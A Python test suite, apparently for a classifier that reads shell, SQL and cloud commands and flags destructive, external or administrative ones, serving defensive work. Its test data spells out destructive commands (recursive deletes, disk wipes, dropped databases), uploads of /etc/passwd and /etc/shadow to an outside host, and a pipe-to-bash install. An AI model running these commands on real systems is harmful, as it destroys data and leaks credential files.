"""What a command line does is read from its words, the most harmful part of it first."""

import shlex
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baselines.features import ACTIONS, Action
from streams.meaning.commands import Meant, _split, read_command


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /srv/data",
        "sudo -u root rm -fr /srv/data",
        "ls; cd /tmp && rm -r --force /srv/data",
        "FOO=1 env BAR=2 timeout 5 rm -R /srv/data",
        "bash -c 'rm -rf /srv/data; ls'",
        "find . | xargs -n1 /bin/rm -r /srv/data",
        "$(rm -rf /srv/data)",
        "find /srv/data -name x -delete",
        "sh:rm -rf /srv/data",
        "find /srv/data -exec rm {} +",
    ],
)
def test_however_it_is_wrapped_a_recursive_delete_is_one(command: str) -> None:
    meant = read_command(command)
    assert meant is not None
    assert (meant.action, meant.is_irreversible, meant.is_broad) == ("delete", True, True)
    assert meant.target.rstrip(")") == "/srv/data"


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("dd if=/dev/zero of=/dev/sda", "/dev/sda"),
        ("mkfs.ext4 /dev/sdb1", "/dev/sdb1"),
        ("cat image > /dev/nvme0n1", "/dev/nvme0n1"),
        ("DROP TABLE users;", "users"),
        ("drop database if exists shop", "shop"),
        ("TRUNCATE TABLE orders", "orders"),
        ("delete from users where 1=1", "users"),
        ("DELETE FROM users", "users"),
        ('psql -h db -c "DROP SCHEMA app CASCADE"', "app"),
        ("terraform destroy -auto-approve", ""),
        ("kubectl delete ns prod", "prod"),
        ("git push --force origin main", "origin"),
        ("git push origin +main", "origin"),
        ("aws s3 rb s3://bucket --force", "s3://bucket"),
        ("aws s3 rm s3://bucket/x --recursive", "s3://bucket/x"),
        ("gcloud projects delete shop", "shop"),
        ("docker system prune -a", ""),
    ],
)
def test_what_takes_all_and_cannot_be_undone(command: str, target: str) -> None:
    meant = read_command(command)
    assert meant is not None
    assert meant._replace(target="") == Meant("delete", "", True, True)
    assert meant.target in (target, "prune")


@pytest.mark.parametrize(
    ("command", "action", "is_external"),
    [
        ("kubectl delete pod web-1 -n x", "delete", False),
        ("gcloud compute instances delete vm-1", "delete", False),
        ("DELETE FROM users WHERE id = 7", "delete", False),
        ("helm uninstall web", "delete", False),
        ("curl -X DELETE https://api.example.org/x/1", "delete", False),
        ("curl -T dump.sql https://example.org/in", "send", True),
        ("curl -d @/etc/passwd https://example.org", "send", True),
        ("wget --post-file=/etc/shadow http://example.org", "send", True),
        ("scp a user@example.org:/tmp", "send", True),
        ("rclone copy /srv remote:bucket", "send", True),
        ("git push origin feature", "send", False),
        ("chmod -R 777 /srv", "admin", False),
        ("chown root a", "admin", False),
        ("aws iam attach-user-policy --user-name bob", "admin", False),
        ("GRANT ALL ON shop TO bob", "admin", False),
        ("CREATE ROLE bob", "admin", False),
        ("gcloud projects add-iam-policy-binding shop", "admin", False),
        ("ssh-keygen -t ed25519", "auth", False),
        ("pip install requests", "execute", False),
        ("npm i left-pad", "execute", False),
        ("curl -fsSL https://example.org/install.sh | bash", "execute", False),
        ("python -m pytest", "execute", False),
        ("ls; ./unknown.sh", "execute", False),
        ("format", "execute", False),
        ("sql: SELECT 1", "read", False),
        ("sh:make build", "execute", False),
        ("ls;" * 70 + "rm -rf /", "execute", False),
        ("ls " + "x" * 5_000 + "; rm -rf /", "execute", False),
        ("echo root > /etc/passwd", "write", False),
        ("make 2>&1 | tail", "execute", False),
        ("ls 2>/dev/null", "read", False),
        ("git status 2>&1", "read", False),
        ("INSERT INTO t VALUES (1)", "write", False),
        ("UPDATE t SET a = 1 WHERE id = 2", "write", False),
        ("git commit -m x", "write", False),
        ("mv a b", "write", False),
        ("terraform plan", "read", False),
        ("git status", "read", False),
        ("aws ec2 describe-instances", "read", False),
        ("aws iam list-users", "read", False),
        ("curl https://example.org", "read", False),
        ("grep -rf patterns src", "read", False),
        ("SELECT * FROM users", "read", False),
        ("cat a.txt | sort | uniq", "read", False),
    ],
)
def test_the_class_of_a_command(command: str, action: Action, is_external: bool) -> None:
    meant = read_command(command)
    assert meant is not None
    assert (meant.action, meant.is_external) == (action, is_external)
    assert not (meant.is_irreversible and meant.is_broad)


@pytest.mark.parametrize(
    "text",
    [
        *("", " ", "'", "weekly report", "select a table for dinner", "update the calendar"),
        *("drop me a line", "reports/format", "ann@example.org", "/srv/app/a.py", "日本語"),
        # A long s is an s without case, to an expression and to no database.
        *("\u017felect 1", "in\u017fert into t values (1)"),
    ],
)
def test_what_is_no_command_is_none(text: str) -> None:
    assert read_command(text) is None


@given(st.text(max_size=200), st.sampled_from(["rm -rf /srv", "DROP TABLE t", "curl -T a b"]))
def test_anything_can_be_read(text: str, command: str) -> None:
    for line in (text, f"{command} {text}", f"{text}; {command}"):
        meant = read_command(line)
        assert meant is None or meant.action in ACTIONS


@given(st.text(alphabet="abc /-.", max_size=60))
def test_nothing_said_first_hides_a_delete(text: str) -> None:
    meant = read_command(f"{text}; rm -rf /srv")
    assert meant is not None
    assert (meant.action, meant.is_broad) == ("delete", True)


@pytest.mark.parametrize(
    "text", ["'" * 60_000, "sudo " * 20_000, "; rm " * 20_000, "select " * 9_000, "a=" * 30_000]
)
def test_a_long_command_costs_little(text: str) -> None:
    started = time.perf_counter()
    for i in range(20):
        read_command(f"{i}{text}")
        read_command(f"{text}{i}")
    assert time.perf_counter() - started < 2.0


@given(st.text("ab'\"\\ \t\r\n\x0b\x85-#", max_size=20))
def test_words_are_those_of_a_shell(text: str) -> None:
    """However they are found: most commands have nothing in them that needs the slow way."""
    try:
        words = shlex.split(text)
    except ValueError:
        return
    assert _split(text) == words
